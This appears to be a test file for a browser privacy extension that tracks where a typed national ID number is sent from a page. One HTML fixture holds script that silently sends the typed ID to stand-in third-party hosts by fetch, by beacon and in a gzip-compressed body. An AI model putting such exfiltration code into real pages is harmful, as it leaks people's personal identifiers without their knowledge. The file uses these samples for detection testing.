// Observed sends (issue 18): where a recognised value typed on a page actually went, seen by the background in
// the tab's requests and matched by keyed digest. Pretend hosts stand in for the page's own site, an analytics
// company and a beacon collector. The listener exists only on a tab where a value was recognised; the popup
// lists each destination; a third-party send raises the level and shows the notice; nothing typed is kept.
import { expect, it } from 'vitest';
import { describeInBrowsers } from '../../scripts/harness/browsers';
import { poll, pollPage, type Driver, type TabPage } from '../../scripts/harness/driver';
import { captureMessages, everythingKept } from '../../scripts/harness/extension-state';
import { hostsAdded, pressUntilClosed, watchOverlay } from '../../scripts/harness/page-barriers';
import type { SendView } from '../../lib/report/views';

const NIK = '3171015708450001';
const GROUPED = '3171 0157 0845 0001';

const watchers = (d: Driver) => d.send<{ sendWatchers: number }>('getDiagnostics', {}).then((x) => x.sendWatchers);
const waitWatchers = (d: Driver, ok: (n: number) => boolean, what: string) => poll(() => watchers(d), ok, 10_000, what);

const sendTo = (site: string) => (s: SendView) => s.site === site;

/** What our overlay added to the page: the last child of <html>, a bare div that is not the page's own. */
const overlayPresent = (page: TabPage) =>
  page.evaluate(() => {
    const last = document.documentElement.lastElementChild;
    return last !== null && last !== document.body && last.localName === 'div' && last.attributes.length === 0;
  });

const FIELD = '<label for="nik">NIK (16 digit)</label><input id="nik" name="nik" autocomplete="off">';

/** A single-page form: the page's own script sends the NIK to its own API with fetch. */
const SPA = `<!doctype html><html lang="id"><title>Daftar</title><h1>Pendaftaran</h1><div>${FIELD}
<button id="kirim" type="button">Kirim</button></div><p id="ok"></p><script>
document.getElementById('kirim').onclick = () =>
  fetch('/api/daftar', { method: 'POST', body: JSON.stringify({ pasien: { nik: document.getElementById('nik').value } }) })
    .then(() => (document.getElementById('ok').textContent = 'terkirim'));
</script></html>`;

/** A page whose "analytics" posts what was typed to a third party: fetch, a beacon, and a gzip body. */
const ANALYTICS = `<!doctype html><html lang="id"><title>Daftar</title><form action="/simpan" method="post">${FIELD}</form>
<button id="flush" type="button">a</button><button id="beacon" type="button">b</button><button id="gz" type="button">c</button>
<p id="done"></p><script>
const value = () => document.getElementById('nik').value;
const done = (x) => (document.getElementById('done').textContent += x);
document.getElementById('flush').onclick = () =>
  fetch('https://collect.analitik-contoh.example/c', { method: 'POST', mode: 'no-cors',
    body: JSON.stringify({ events: [{ t: 'input', sel: '#nik', text: value() }] }) }).then(() => done('f'), () => done('F'));
document.getElementById('beacon').onclick = () =>
  done(navigator.sendBeacon('https://b.suar-contoh.example/b', 'nik=' + encodeURIComponent(value())) ? 'b' : 'B');
document.getElementById('gz').onclick = async () => {
  const body = await new Response(new Blob([JSON.stringify({ nik: value() })]).stream()
    .pipeThrough(new CompressionStream('gzip'))).arrayBuffer();
  fetch('https://z.mampat-contoh.example/z', { method: 'POST', mode: 'no-cors', body }).then(() => done('z'), () => done('Z'));
};
</script></html>`;

const GET_FORM = `<!doctype html><html lang="id"><title>Cari</title>
<form action="https://rs-kirim.example/hasil" method="get">${FIELD}<button id="go">Cari</button></form></html>`;

describeInBrowsers('observed sends', (driver) => {
  it('watches nothing on a page where no value was recognised (no listener), and nothing is recorded', async () => {
    const d = driver();
    const url = 'https://rs-kirim.example/tanpa-nilai';
    d.web.html(url, SPA);
    d.web.set('https://rs-kirim.example/api/daftar', { body: '{}', contentType: 'application/json' });
    await waitWatchers(d, (n) => n === 0, 'no watcher left by earlier tests');
    const page = await d.open(url);
    await d.waitForView(url, (v) => v.fields.length === 1);
    await page.type('#nik', 'belum tahu');
    await page.click('#kirim');
    await pollPage(
      page,
      () => document.getElementById('ok')!.textContent,
      (t) => t === 'terkirim',
      'the send',
    );
    expect(await watchers(d)).toBe(0);
    expect((await d.view(url))!.sends).toEqual([]);
    await page.close();
  });

  it('a fetch to the page’s own site over HTTPS is listed quietly; closing the tab drops the listener', async () => {
    const d = driver();
    await captureMessages(d);
    const url = 'https://rs-kirim.example/spa';
    d.web.html(url, SPA);
    d.web.set('https://rs-kirim.example/api/daftar', { body: '{}', contentType: 'application/json' });
    const page = await d.open(url);
    await d.waitForView(url, (v) => v.fields.length === 1);
    expect(await watchers(d)).toBe(0);
    await page.type('#nik', GROUPED);
    await waitWatchers(d, (n) => n === 1, 'the tab to be watched');
    await page.click('#kirim');
    const view = await d.waitForView(url, (v) => v.sends.some(sendTo('rs-kirim.example')));
    expect(view.sends).toEqual([
      {
        site: 'rs-kirim.example',
        kinds: ['national_id'],
        vias: ['fetch'],
        secure: true,
        party: 'first',
        listed: null,
        lookalike: null,
        unreadable: 0,
        risky: false,
      },
    ]);
    expect(view.level).toBe('ok');
    expect(await overlayPresent(page)).toBe(false);
    const kept = await everythingKept(d);
    for (const secret of [NIK, GROUPED, '31710157']) expect(kept).not.toContain(secret);
    // The page's key and the digests (64 hex digits each) went over the background's own port, to no page.
    expect(kept).not.toMatch(/[0-9a-f]{64}/);
    await page.close();
    await waitWatchers(d, (n) => n === 0, 'the listener to go with the tab');
  });

  it('analytics posting the NIK to a third party: notice (once per tab), caution, popup line; a beacon; a gzip body unreadable', async () => {
    const d = driver();
    await captureMessages(d);
    const url = 'https://rs-kirim.example/analitik';
    d.web.html(url, ANALYTICS);
    for (const u of [
      'https://collect.analitik-contoh.example/c',
      'https://b.suar-contoh.example/b',
      'https://z.mampat-contoh.example/z',
    ])
      d.web.set(u, { body: '', contentType: 'text/plain' });
    const page = await d.open(url);
    await watchOverlay(page);
    await d.waitForView(url, (v) => v.fields.length === 1);
    await page.type('#nik', NIK);
    await waitWatchers(d, (n) => n === 1, 'the tab to be watched');

    await page.click('#flush');
    const sent = await d.waitForView(url, (v) => v.sends.some(sendTo('analitik-contoh.example')));
    expect(sent.sends.find(sendTo('analitik-contoh.example'))).toMatchObject({
      kinds: ['national_id'],
      vias: ['fetch'],
      secure: true,
      party: 'third',
      risky: true,
    });
    expect(sent.level).toBe('caution');
    await poll(
      () => overlayPresent(page),
      (p) => p,
      5000,
      'the notice of the send',
    );
    expect(await hostsAdded(page)).toBe(1);
    // It closes with Escape like every notice: not with one the page forges, with a real one.
    await page.evaluate(() => {
      document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
      window.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
    });
    expect(await overlayPresent(page)).toBe(true);
    await pressUntilClosed(page, 'Escape', 'the notice of the send to take a real Escape');

    // A second third party: listed and risky, but the notice was shown once for this tab already.
    await page.click('#beacon');
    const beacon = await d.waitForView(url, (v) => v.sends.some(sendTo('suar-contoh.example')));
    expect(beacon.sends.find(sendTo('suar-contoh.example'))).toMatchObject({
      vias: ['beacon'],
      party: 'third',
      risky: true,
    });

    await page.click('#gz');
    const gz = await d.waitForView(url, (v) => v.sends.some(sendTo('mampat-contoh.example')));
    expect(gz.sends.find(sendTo('mampat-contoh.example'))).toMatchObject({ kinds: [], unreadable: 1, risky: false });

    const popup = await d.openExtensionPage(`/popup.html?tab=${await d.tabIdOf(url)}`);
    const lines = await poll(
      () => popup.evaluate(() => [...document.querySelectorAll('.sends li')].map((li) => li.textContent ?? '')),
      (l) => l.length === 3,
      8000,
      'the popup’s sends',
    );
    expect(lines.find((l) => l.startsWith('analitik-contoh.example'))).toMatch(/another company/);
    expect(lines.find((l) => l.startsWith('suar-contoh.example'))).toMatch(/beacon/);
    expect(lines.find((l) => l.startsWith('mampat-contoh.example'))).toMatch(/could not read.*1/);
    await popup.close();
    // By now the background has told the page of the beacon (the view and the popup came after it): no second
    // notice (each notice opens a new overlay host in place of the last), even with the first one closed.
    expect(await hostsAdded(page)).toBe(1);
    expect(await overlayPresent(page)).toBe(false);

    const kept = await everythingKept(d);
    for (const secret of [NIK, '31710157']) expect(kept).not.toContain(secret);
    expect(kept).not.toMatch(/[0-9a-f]{64}/);
    await page.close();
    await waitWatchers(d, (n) => n === 0, 'the listener to go with the tab');
  });

  it('a GET form putting the NIK in the query is shown on the page it leads to', async () => {
    const d = driver();
    const url = 'https://rs-kirim.example/cari';
    const result = `https://rs-kirim.example/hasil?nik=${NIK}`;
    d.web.html(url, GET_FORM);
    d.web.html(result, '<!doctype html><title>Hasil</title><p>Hasil pencarian');
    const page = await d.open(url);
    await d.waitForView(url, (v) => v.fields.length === 1);
    await page.type('#nik', NIK);
    await waitWatchers(d, (n) => n === 1, 'the tab to be watched');
    await page.click('#go');
    const view = await d.waitForView(result, (v) => v.sends.length > 0);
    expect(view.sends).toEqual([
      expect.objectContaining({ site: 'rs-kirim.example', vias: ['navigation'], risky: false }),
    ]);
    expect(view.url).not.toContain(NIK);
    await waitWatchers(d, (n) => n === 0, 'the listener to go with the page');
    await page.close();
  });

  it('a send over plain HTTP is told even when it goes to the page’s own site', async () => {
    const d = driver();
    const url = 'http://rs-kirim.example/spa-http';
    d.web.html(url, SPA);
    d.web.set('http://rs-kirim.example/api/daftar', { body: '{}', contentType: 'application/json' });
    const page = await d.open(url);
    await d.waitForView(url, (v) => v.fields.length === 1);
    await page.type('#nik', NIK);
    await waitWatchers(d, (n) => n === 1, 'the tab to be watched');
    await page.click('#kirim');
    const view = await d.waitForView(url, (v) => v.sends.length > 0);
    expect(view.sends[0]).toMatchObject({ site: 'rs-kirim.example', secure: false, party: 'first', risky: true });
    await poll(
      () => overlayPresent(page),
      (p) => p,
      5000,
      'the notice of the send',
    );
    await page.close();
    await waitWatchers(d, (n) => n === 0, 'the listener to go with the tab');
  });
});
